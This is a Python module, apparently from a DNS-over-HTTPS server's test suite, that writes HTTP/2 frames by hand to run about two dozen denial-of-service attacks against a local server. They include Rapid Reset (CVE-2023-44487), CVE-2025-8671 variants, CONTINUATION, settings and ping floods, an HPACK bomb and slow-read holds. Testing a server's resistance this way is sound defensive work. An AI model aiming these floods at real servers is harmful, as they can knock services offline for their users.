# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks on the front by frames, each a function that goes on until it is cut off or has had its fill. They write their
frames themselves: no library would. attacks.py has the other kinds, and the table of all."""
import contextlib
import socket
import ssl
import struct
import time

import hpack

from . import doh
from .process import PATIENCE, SLOWNESS

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED = 1, 1, 4, 8
NO_ERROR, PROTOCOL_ERROR, INTERNAL_ERROR, FLOW_CONTROL_ERROR = 0, 1, 2, 3
STREAM_CLOSED, FRAME_SIZE_ERROR, REFUSED_STREAM, CANCEL, COMPRESSION_ERROR = 5, 6, 7, 8, 9
ENHANCE_YOUR_CALM = 11
CODES = {v: k for k, v in dict(globals()).items() if k in (
    "NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM",
    "CANCEL", "COMPRESSION_ERROR", "ENHANCE_YOUR_CALM")}
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADER_TABLE_SIZE, MAX_CONCURRENT, INITIAL_WINDOW_SIZE = 1, 3, 4
FILL = 40000  # frames after which an attack has had its fill


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def u32(n):
    return struct.pack(">I", n)


def setting(key, value):
    return struct.pack(">HI", key, value)


def block(fields):
    """A header block that neither uses nor changes the compression's state."""
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(n, v) for n, v in fields], huffman=False)


def request(method="GET", target="/dns-query", extra=()):
    return block([(":method", method), (":scheme", "https"), (":authority", "localhost"), (":path", target), *extra])


class Cut(Exception):
    """The server has ended the connection; code is that of its GOAWAY, None without one."""

    def __init__(self, code):
        super().__init__(f"cut off (GOAWAY {code})")
        self.code = code


class Target:
    """Where to: a port, its CA, and from which address (another one than the good client's)."""

    def __init__(self, port, ca, source="127.66.0.1"):
        self.port, self.ca, self.source = port, ca, source

    def tcp(self, source=None):
        sock = socket.create_connection(("127.0.0.1", self.port), PATIENCE,
                                        source_address=(source or self.source, 0))
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return sock

    def tls(self, alpn="h2", source=None):
        sock = self.tcp(source)
        try:
            return doh.tls_context(self.ca, (alpn,)).wrap_socket(sock, server_hostname="localhost")
        except BaseException:
            sock.close()
            raise


class Raw:
    """An HTTP/2 connection on which frames are written by hand. read() takes what has come, without waiting. It never
    acknowledges the settings: the server's smaller header table would have to be told in the next block."""

    def __init__(self, sock, settings=b"", preface=True):
        self.sock = sock
        self.inbox = b""
        self.frames = 0
        self.goaway = None
        self.resets, self.headers, self.status, self.ended = {}, {}, {}, set()
        self.decoder = hpack.Decoder()
        self.pings = 0
        if preface:
            self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.sock.close()

    def send(self, data):
        try:
            self.sock.sendall(data)
        except (ConnectionError, ssl.SSLError, BrokenPipeError):
            self.drain()

    def drain(self):
        """Reads to the end, which must come, and tells of it."""
        try:
            while self.take(self.sock.recv(65536)):
                pass
        except (ConnectionError, ssl.SSLError):
            pass
        raise Cut(self.goaway)

    def read(self):
        """Takes what is there; Cut if that is the end."""
        self.sock.settimeout(0)
        try:
            while True:
                if not self.take(self.sock.recv(65536)):
                    raise Cut(self.goaway)
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except (ConnectionError, ssl.SSLError) as e:
            raise Cut(self.goaway) from e
        finally:
            self.sock.settimeout(PATIENCE)

    def read_until(self, condition):
        """Waits for frames until condition holds; Cut if the end comes first."""
        while not condition():
            try:
                if not self.take(self.sock.recv(65536)):
                    raise Cut(self.goaway)
            except (ConnectionError, ssl.SSLError) as e:
                raise Cut(self.goaway) from e

    def take(self, data):
        self.inbox += data
        while len(self.inbox) >= 9:
            size = int.from_bytes(self.inbox[:3], "big")
            if len(self.inbox) < 9 + size:
                break
            kind, flags = self.inbox[3], self.inbox[4]
            stream = int.from_bytes(self.inbox[5:9], "big") & 0x7fffffff
            self.heard(kind, flags, stream, self.inbox[9:9 + size])
            self.inbox = self.inbox[9 + size:]
        return bool(data)

    def heard(self, kind, flags, stream, payload):
        self.frames += 1
        if kind == GOAWAY:
            self.goaway = int.from_bytes(payload[4:8], "big")
        elif kind == RST_STREAM:
            self.resets[stream] = int.from_bytes(payload, "big")
        elif kind == HEADERS:
            self.headers[stream] = dict(self.decoder.decode(payload))
            self.status[stream] = int(self.headers[stream][":status"])
        elif kind == PING and flags & ACK:
            self.pings += 1
        elif kind == PING:
            self.sock.sendall(frame(PING, ACK, 0, payload))
        if kind in (HEADERS, DATA) and flags & END_STREAM:
            self.ended.add(stream)

    def alive(self):
        """True if the connection still answers a PING."""
        before = self.pings
        self.send(frame(PING, 0, 0, b"areyouok"))
        self.read_until(lambda: self.pings > before)
        return True


class Fill(Exception):
    """The attack has had its fill, and nobody cut it off."""


def flood(target, make, settings=b"", batch=100):
    """Sends make(n), n = 0, 1, …, in batches. Always ends in an exception: Cut, unless the server lets all of it pass."""
    with Raw(target.tls(), settings) as raw:
        for n in range(0, FILL, batch):
            raw.send(b"".join(make(k) for k in range(n, n + batch)))
            raw.read()
        # A machine that has other things to do may not have read it yet.
        with contextlib.suppress(TimeoutError):
            raw.drain()
    raise Fill


def odd(n):
    return 2 * n + 1


def asking(name):
    """The header block of a GET."""
    return request(target="/dns-query?dns=" + doh.b64(doh.wire(doh.question(name))))


# --- floods of frames; each ends in Cut

def rapid_reset(target):
    """CVE-2023-44487."""
    get = asking("rapid.example")
    flood(target, lambda n: frame(HEADERS, END_HEADERS | END_STREAM, odd(n), get) +
          frame(RST_STREAM, 0, odd(n), u32(CANCEL)))


def made_you_reset(target):
    """CVE-2025-8671: the server is made to reset, by an increment of 0."""
    get = asking("made.example")
    flood(target, lambda n: frame(HEADERS, END_HEADERS | END_STREAM, odd(n), get) +
          frame(WINDOW_UPDATE, 0, odd(n), u32(0)))


def overflowing_windows(target):
    """CVE-2025-8671, by a window of more than 2^31."""
    post = request("POST", extra=[("content-type", doh.MEDIA)])
    flood(target, lambda n: frame(HEADERS, END_HEADERS, odd(n), post) +
          frame(WINDOW_UPDATE, 0, odd(n), u32(2**31 - 1)))


def data_after_end(target):
    """CVE-2025-8671, by a body after the end."""
    get = asking("after.example")
    flood(target, lambda n: frame(HEADERS, END_HEADERS | END_STREAM, odd(n), get) + frame(DATA, 0, odd(n), b"x"))


def wrong_priority(target):
    """CVE-2025-8671, by a PRIORITY frame of a wrong size."""
    post = request("POST", extra=[("content-type", doh.MEDIA)])
    flood(target, lambda n: frame(HEADERS, END_HEADERS, odd(n), post) + frame(PRIORITY, 0, odd(n), b"\0\0\0"))


def continuation_flood(target):
    flood(target, lambda n: frame(HEADERS, 0, 1, request()) if n == 0 else frame(CONTINUATION, 0, 1, block([("a", "b")])))


def empty_continuations(target):
    flood(target, lambda n: frame(HEADERS, 0, 1, request()) if n == 0 else frame(CONTINUATION, 0, 1))


def settings_flood(target):
    flood(target, lambda n: frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 65535 - n % 2)))


def settings_of_many(target):
    flood(target, lambda n: frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 65535) * 1000), batch=4)


def settings_acks(target):
    flood(target, lambda n: frame(SETTINGS, ACK))


def ping_flood(target):
    flood(target, lambda n: frame(PING, 0, 0, u32(n) * 2))


def ping_acks(target):
    flood(target, lambda n: frame(PING, ACK, 0, u32(n) * 2))


def priority_flood(target):
    flood(target, lambda n: frame(PRIORITY, 0, odd(n), u32(0) + b"\x10"))


def window_flood(target):
    flood(target, lambda n: frame(WINDOW_UPDATE, 0, 0, u32(1)))


def unknown_flood(target):
    flood(target, lambda n: frame(0x42, 0, 0, b"?" * 100))


def reset_of_nothing(target):
    """Resets of one stream that has long ended."""
    get = request(target="/dns-query?dns=")
    flood(target, lambda n: frame(HEADERS, END_HEADERS | END_STREAM, 1, get) if n == 0 else
          frame(RST_STREAM, 0, 1, u32(CANCEL)))


def empty_data(target):
    post = request("POST", extra=[("content-type", doh.MEDIA)])
    flood(target, lambda n: frame(HEADERS, END_HEADERS, 1, post) if n == 0 else frame(DATA, 0, 1))


def padding_only(target):
    """Padding takes of the window, so none of it may be longer than that."""
    post = request("POST", extra=[("content-type", doh.MEDIA)])
    flood(target, lambda n: frame(HEADERS, END_HEADERS, 1, post) if n == 0 else frame(DATA, PADDED, 1, b"\1\0"))


def header_flood(target):
    """Header lists over the limit, again and again."""
    much = request(extra=[(f"x-{i}", "y" * 100) for i in range(200)])
    part = len(much) // 2 + 1
    flood(target, lambda n: frame(HEADERS, END_STREAM, odd(n), much[:part]) +
          frame(CONTINUATION, END_HEADERS, odd(n), much[part:]), batch=4)


def hpack_bomb(target):
    """One long field in the table, and then references to it of one byte each."""
    long_field = b"\x40\x01a" + b"\x7f" + bytes([900 - 127 & 127 | 128, 900 - 127 >> 7]) + b"b" * 900
    head = request()
    flood(target, lambda n: frame(HEADERS, END_HEADERS | END_STREAM, odd(n), head + (long_field if n == 0 else b"")
                                  + b"\xbe" * 8000), batch=2)


def table_resizes(target):
    """Table size updates without end: 64 KiB of them are one frame's worth of work each."""
    flood(target, lambda n: frame(HEADERS, END_HEADERS | END_STREAM, odd(n), b"\x20\x3f\xe1\x07" * 2000 + request()),
          batch=4)


def one_byte_windows(target):
    """Answers wait, and are let go byte by byte."""
    get = asking("good.example")

    def make(n):
        if n < 50:
            return frame(HEADERS, END_HEADERS | END_STREAM, odd(n), get)
        return frame(WINDOW_UPDATE, 0, odd(n % 50), u32(1))
    flood(target, make, setting(INITIAL_WINDOW_SIZE, 0))


# --- those that hold what they have; each waits for its end

def shut_windows(target):
    """Many answers, and no window for any of them."""
    get = asking("good.example")
    with Raw(target.tls(), setting(INITIAL_WINDOW_SIZE, 0)) as raw:
        for n in range(90):
            raw.send(frame(HEADERS, END_HEADERS | END_STREAM, odd(n), get))
        raw.drain()


def sips(target):
    """Many answers, of which a byte is let go five times a second."""
    get = asking("good.example")
    deadline = time.monotonic() + PATIENCE
    with Raw(target.tls(), setting(INITIAL_WINDOW_SIZE, 0)) as raw:
        raw.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, odd(n), get) for n in range(90)))
        n = 0
        while time.monotonic() < deadline:
            raw.send(frame(WINDOW_UPDATE, 0, odd(n % 90), u32(1)))
            time.sleep(0.2)   # the attack itself: nothing is waited for
            raw.read()
            n += 1
    raise Fill


def never_reads(target):
    """Asks for more than the sockets' buffers hold and reads none of it. Waits for the server to hang up."""
    get = asking("good.example")
    sock = target.tcp()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock = doh.tls_context(target.ca, ("h2",)).wrap_socket(sock, server_hostname="localhost")
    deadline = time.monotonic() + PATIENCE
    with Raw(sock) as raw:
        try:
            raw.sock.sendall(frame(WINDOW_UPDATE, 0, 0, u32(2**30)))
            n = 0
            while time.monotonic() < deadline:
                raw.sock.sendall(frame(HEADERS, END_HEADERS | END_STREAM, odd(n), get))
                n += 1
        except (ConnectionError, ssl.SSLError, BrokenPipeError) as e:
            raise Cut(None) from e
    raise Fill


def drip(sock, data, until_cut=PATIENCE):
    """Sends data a byte at a time, twenty a second, until the server hangs up; what it said meanwhile."""
    said = b""
    sock.settimeout(0.05 * SLOWNESS)
    deadline = time.monotonic() + until_cut
    at = 0
    while time.monotonic() < deadline:
        try:
            if at < len(data):
                sock.sendall(data[at:at + 1])
                at += 1
            got = sock.recv(65536)
            if not got:
                return said
            said += got
        except (socket.timeout, ssl.SSLWantReadError):
            continue
        except (ConnectionError, ssl.SSLError):
            return said
    raise Fill
